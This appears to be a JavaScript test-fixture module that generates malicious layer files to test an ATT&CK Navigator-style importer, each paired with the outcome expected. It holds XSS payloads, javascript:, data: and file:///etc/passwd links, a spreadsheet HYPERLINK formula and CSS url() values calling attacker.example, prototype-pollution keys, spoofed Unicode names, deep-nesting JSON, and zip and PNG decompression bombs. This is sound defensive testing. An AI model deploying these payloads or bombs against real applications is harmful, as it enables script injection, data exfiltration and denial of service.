// Layer files, bundles and archives that mean harm, made here. Each says what must come of it.
//
//   attacks()     [{ name, what, file: { name, buffer }, expect }]
//                 expect: "opens" (a layer is shown), "refused" (a message says why; nothing else changes) or
//                 "either" (one of the two)

import { deflateRawSync, deflateSync } from "node:zlib";

const SCRIPTS = [
  "<script>window.pwned = 1</script>",
  "<img src=x onerror='window.pwned = 2'>",
  "\"><svg onload=window.pwned=3>",
  "javascript:window.pwned=4",
  "</style><script>window.pwned=5</script>",
  "${window.pwned=6}{{window.pwned=7}}",
  "]]><script>window.pwned=8</script>",
  "=HYPERLINK(\"https://attacker.example/?\"&A1,\"x\")",
];
export const LINKS = [
  "javascript:window.pwned=1",
  "JaVaScRiPt:window.pwned=1",
  " \u0001javascript:window.pwned=1",
  "java\tscript:window.pwned=1",
  "data:text/html,<script>window.pwned=1</script>",
  "vbscript:window.pwned=1",
  "file:///etc/passwd",
  "blob:https://attacker.example/1",
];
const COLORS = [
  "red;background:url(https://attacker.example/a)",
  "url(https://attacker.example/b)",
  "expression(window.pwned=1)",
  "var(--x)}body{display:none",
  "#ff6666\";onload=\"window.pwned=1",
  "\\72\\65\\64",
];
const PROTOTYPES = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf"];

const layer = (more) => ({
  name: "attack",
  versions: { attack: "19", navigator: "5.1.0", layer: "4.5" },
  domain: "enterprise-attack",
  techniques: [{ techniqueID: "T1610", tactic: "execution", score: 40 }],
  ...more,
});
const technique = (more) => ({ techniqueID: "T1610", tactic: "execution", score: 40, ...more });
const json = (value) => ({ name: "attack.json", buffer: Buffer.from(typeof value === "string" ? value : JSON.stringify(value)) });
const text = (words) => json(JSON.stringify(layer({ name: words })));

// All of them, in every text that a layer has.
const everywhere = (all) =>
  layer({
    name: all.join(" "),
    description: all.join(" "),
    techniques: all.flatMap((words, at) => [
      technique({
        techniqueID: ["T1609", "T1610", "T1612", "T1613"][at % 4],
        tactic: undefined,
        comment: words,
        metadata: [{ name: words, value: words }],
        links: [{ label: words, url: "https://example.org/" }],
      }),
      technique({ techniqueID: words, tactic: words }),
    ]),
    metadata: all.map((words) => ({ name: words, value: words })),
    links: all.map((label) => ({ label, url: "https://example.org/" })),
    legendItems: all.map((label) => ({ label, color: "#ff6666" })),
    ...Object.fromEntries(all.map((words) => [words, words])),
  });

const archive = (name, size) => {
  const packed = deflateRawSync(Buffer.alloc(size));
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(20, 4);
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(packed.length, 18);
  head.writeUInt32LE(1000, 22);
  head.writeUInt16LE(name.length, 26);
  const entry = Buffer.concat([head, Buffer.from(name), packed]);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(packed.length, 20);
  central.writeUInt32LE(1000, 24);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + name.length, 12);
  end.writeUInt32LE(entry.length, 16);
  return Buffer.concat([entry, central, Buffer.from(name), end]);
};

// A PNG whose layer unpacks to so many bytes. (Its checksums are zero: nobody looks at them before the layer.)
const picture = (size) => {
  const chunk = (kind, content) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(content.length);
    return Buffer.concat([length, Buffer.from(kind), content, Buffer.alloc(4)]);
  };
  const inside = Buffer.concat([Buffer.from("bulkhead-layer\0\x01\0\0\0", "latin1"), deflateSync(Buffer.alloc(size))]);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk("IHDR", Buffer.alloc(13)), chunk("iTXt", inside), chunk("IEND", Buffer.alloc(0))]);
};

const bundle = (words) => ({
  type: "bundle",
  id: "bundle--00000000-0000-4000-8000-000000000001",
  objects: [
    {
      type: "x-mitre-matrix",
      id: "x-mitre-matrix--00000000-0000-4000-8000-000000000001",
      name: words,
      description: words,
      tactic_refs: ["x-mitre-tactic--00000000-0000-4000-8000-000000000001"],
    },
    {
      type: "x-mitre-tactic",
      id: "x-mitre-tactic--00000000-0000-4000-8000-000000000001",
      name: words,
      x_mitre_shortname: "execution",
      description: words,
      external_references: [{ source_name: "mitre-attack", external_id: "TA0002", url: LINKS[0] }],
    },
    {
      type: "attack-pattern",
      id: "attack-pattern--00000000-0000-4000-8000-000000000001",
      name: words,
      description: `${words} [x](javascript:window.pwned=1)`,
      kill_chain_phases: [{ kill_chain_name: "mitre-attack", phase_name: "execution" }],
      x_mitre_platforms: [words, "Containers"],
      external_references: [{ source_name: "mitre-attack", external_id: "T1610", url: LINKS[0] }],
    },
  ],
});

export function attacks() {
  return [
    { name: "markup", what: "markup in every text", file: json(everywhere(SCRIPTS.slice(0, 4))), expect: "opens" },
    { name: "more markup", what: "what breaks out of other texts", file: json(everywhere(SCRIPTS.slice(4))), expect: "opens" },
    {
      name: "links",
      what: "links that run or read something",
      file: json(
        layer({
          techniques: [technique({ links: LINKS.map((url) => ({ label: url, url })) })],
          links: LINKS.map((url) => ({ label: "click", url })),
        }),
      ),
      expect: "opens",
    },
    {
      name: "colours",
      what: "style in colours",
      file: json(
        layer({
          techniques: COLORS.map((color) => technique({ color })),
          gradient: { colors: COLORS, minValue: 0, maxValue: 100 },
          legendItems: COLORS.map((color) => ({ label: color, color })),
          tacticRowBackground: COLORS[0],
          showTacticRowBackground: true,
        }),
      ),
      expect: "opens",
    },
    {
      name: "prototypes",
      what: "names that every object has",
      file: json(
        `{"name":"attack","versions":{"layer":"4.5","attack":"19","navigator":"5.1.0"},"domain":"enterprise-attack",` +
          `${PROTOTYPES.map((name) => `"${name}":{"polluted":1}`).join(",")},` +
          `"techniques":[${PROTOTYPES.map((name) => `{"techniqueID":"${name}","tactic":"${name}","score":1,"${name}":{"polluted":1}}`).join(",")}],` +
          `"metadata":[${PROTOTYPES.map((name) => `{"name":"${name}","value":"${name}"}`).join(",")}]}`,
      ),
      expect: "opens",
    },
    { name: "right to left", what: "a name that turns its end around", file: text("invoice\u202Egnp.exe\u202C\u2066\u0000\u0007"), expect: "opens" },
    { name: "homoglyphs", what: "a name of letters that look like others", file: text("Соvеrаgе\u200B\u200D\uFEFF"), expect: "opens" },
    { name: "stacked marks", what: "a letter with a thousand accents", file: text(`Z${"\u0351".repeat(1_000)}`), expect: "opens" },
    { name: "long name", what: "a name of a megabyte", file: text("n".repeat(1_000_000)), expect: "opens" },
    {
      name: "duplicates",
      what: "keys that are there twice",
      file: json('{"name":"a","name":"attack","versions":{"layer":"4.5"},"domain":"enterprise-attack","techniques":[{"techniqueID":"T1610","techniqueID":"T1611","score":1,"score":2}],"techniques":[]}'),
      expect: "either",
    },
    {
      name: "numbers",
      what: "numbers at the end of what there is",
      file: json(`{"name":"attack","versions":{"layer":"4.5"},"domain":"enterprise-attack","techniques":[{"techniqueID":"T1610","score":1.7976931348623157e308},{"techniqueID":"T1611","score":-5e-324},{"techniqueID":"T1613","score":-0}],"gradient":{"colors":["#fff","#000"],"minValue":-1.7e308,"maxValue":1.7e308},"sorting":99999999999999999999}`),
      expect: "opens",
    },
    { name: "infinite", what: "a number that is none", file: json('{"name":"attack","versions":{"layer":"4.5"},"techniques":[{"techniqueID":"T1610","score":1e999}]}'), expect: "either" },
    { name: "deep", what: "a hundred thousand lists in each other", file: json(`{"name":"attack","techniques":${"[".repeat(100_000)}${"]".repeat(100_000)}}`), expect: "refused" },
    { name: "deep objects", what: "objects in each other", file: json(`{"name":"attack","x":${'{"x":'.repeat(50_000)}1${"}".repeat(50_000)}}`), expect: "refused" },
    { name: "cut", what: "half a file", file: json(JSON.stringify(layer()).slice(0, 80)), expect: "refused" },
    { name: "bytes", what: "bytes that are no text", file: { name: "attack.json", buffer: Buffer.from([0, 255, 254, 1, 2, 3, 200, 201]) }, expect: "refused" },
    { name: "many entries", what: "fifty thousand techniques", file: json(layer({ techniques: Array.from({ length: 50_000 }, (_, at) => technique({ techniqueID: `T${1000 + (at % 9000)}`, tactic: `t${at}` })) })), expect: "opens" },
    { name: "bundle", what: "markup in a bundle", file: { name: "bundle.json", buffer: Buffer.from(JSON.stringify(bundle(SCRIPTS[1]))) }, expect: "bundle" },
    { name: "picture bomb", what: "a picture whose layer unpacks to a gigabyte", file: { name: "attack.png", buffer: picture(1 << 30) }, expect: "refused" },
    { name: "archive bomb", what: "an archive that unpacks to a gigabyte", file: { name: "attack.zip", buffer: archive("a.yml", 1 << 30) }, expect: "refused" },
  ];
}

// Layers that are only large.
export const large = {
  metadata: (count) => json(layer({ metadata: Array.from({ length: count }, (_, at) => ({ name: `name ${at}`, value: "v" })) })),
  comments(megabytes) {
    const comment = "c".repeat(1_000_000);
    return json(layer({ techniques: Array.from({ length: megabytes }, (_, at) => technique({ techniqueID: `T${1000 + at}`, comment })) }));
  },
};
